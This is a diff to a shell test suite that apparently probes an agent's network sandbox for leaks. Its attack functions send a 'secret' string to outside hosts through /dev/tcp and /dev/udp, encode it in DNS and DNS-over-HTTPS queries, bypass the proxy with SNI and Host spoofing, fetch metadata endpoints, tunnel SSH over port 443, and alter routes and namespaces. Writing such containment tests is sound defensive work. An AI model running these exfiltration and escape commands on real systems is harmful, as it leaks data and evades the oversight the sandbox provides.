@@ -56,16 +56,24 @@ expect_NET_003() { nothing_arrived && has_no_line "$INSIDE" '^0 ' && has_no_line
 attack_NET_005() {
   for port in 53 853 443; do try timeout 2 bash -c "echo secret >/dev/tcp/8.8.8.8/$port"; done
   for target in 8.8.8.8/53 8.8.8.8/853 8.8.8.8/443 224.0.0.251/5353 224.0.0.252/5355; do
-    try timeout 2 bash -c "echo secret >/dev/udp/$target"
+    # A first datagram is taken and refused; the second one says so.
+    try timeout 2 bash -c "exec 3>/dev/udp/$target && echo secret >&3 && echo secret >&3"
   done
   try "${FETCH[@]}" -k 'https://8.8.8.8/dns-query?dns=c2VjcmV0'
   try "${FETCH[@]}" -k 'https://dns.denied.example/dns-query?dns=c2VjcmV0'
   try timeout 3 getent hosts secret-data.denied.example
   tunnel 8.8.8.8:53
   tunnel allowed.example:853
+  # By the name service of the sandbox itself, which sends nothing on.
+  for name in c2VjcmV0.denied.example c2VjcmV0.allowed.example c2VjcmV0; do
+    try timeout 3 getent ahosts "$name"
+    try timeout 3 bash -c "exec 3<>/dev/udp/127.0.0.1/53; printf '\x12\x34\x01\0\0\x01\0\0\0\0\0\0\x08c2VjcmV0\x06denied\x07example\0\0\x10\0\x01' >&3;
+      head -c 4 <&3 | tail -c 1 | od -An -tx1 | grep -q 0\$"
+  done
+  try timeout 3 bash -c 'echo secret >/dev/tcp/127.0.0.1/53'
   still_reaches
 }
-expect_NET_005() { nothing_arrived && has_no_line "$INSIDE" '^0 '; }
+expect_NET_005() { nothing_arrived && has_no_line "$INSIDE" '^0 ' && log_says 'c2vjcmv0.denied.example'; }
 
 attack_NET_006() {
   try timeout 2 bash -c 'echo secret >/dev/udp/127.0.0.11/53'
@@ -84,6 +92,14 @@ attack_NET_008() {
   done
   try "${FETCH[@]}" --connect-to denied.example:443:allowed.example:443 https://denied.example/
   try "${FETCH[@]}" -k https://93.184.216.34/
+  # The same without the proxy, to the address that the name has in here.
+  for sni in '-noservername' '-servername denied.example' '-servername 93.184.216.34'; do
+    # shellcheck disable=SC2086
+    try bash -c "echo | timeout 3 openssl s_client -connect allowed.example:443 -verify_return_error -CAfile '$W/cert.pem' $sni"
+  done
+  try "${FETCH[@]}" --noproxy '*' --connect-to denied.example:443:allowed.example:443 https://denied.example/
+  try "${FETCH[@]}" --noproxy '*' --resolve denied.example:443:198.19.0.0 -k https://denied.example/
+  try "${FETCH[@]}" --noproxy '*' -f -H 'Host: denied.example' http://allowed.example/
   still_reaches
 }
 expect_NET_008() {
@@ -141,6 +157,8 @@ attack_NET_016() {
   for name in private.example rebound.example metadata.example engine.example; do
     try "${FETCH[@]}" -k -f "https://$name/"
     try "${FETCH[@]}" -f "http://$name/latest/meta-data/"
+    try "${FETCH[@]}" --noproxy '*' -k -f "https://$name/"
+    try "${FETCH[@]}" --noproxy '*' -f "http://$name/latest/meta-data/"
   done
   still_reaches
 }
@@ -202,6 +220,8 @@ attack_NET_023() {
   tunnel ssh.allowed.example:22
   tunnel allowed.example:443 'SSH-2.0-OpenSSH_9.2\r\n'
   try timeout 2 bash -c 'echo SSH-2.0-x >/dev/tcp/93.184.216.34/22'
+  try timeout 2 bash -c 'echo SSH-2.0-x >/dev/tcp/allowed.example/22'
+  timeout 2 bash -c 'exec 3<>/dev/tcp/allowed.example/443; printf "SSH-2.0-x\r\n" >&3; cat <&3'
   still_reaches
 }
 expect_NET_023() { nothing_arrived && has_no_line "$INSIDE" '^(0 |raw|SSH)' && log_says 'something else than TLS' && log_says 'only port 443'; }
@@ -212,6 +232,7 @@ attack_NET_025() {
   try ip link add dummy0 type dummy
   try ip addr add 93.184.216.99/32 dev lo
   try ip route add default dev lo
+  try ip route del local 192.0.0.0/3 dev lo
   try unshare --net true
   try nsenter --net=/proc/1/ns/net ip addr add 93.184.216.99/32 dev lo
   # The file that the gateway listens at is none of the agent's.
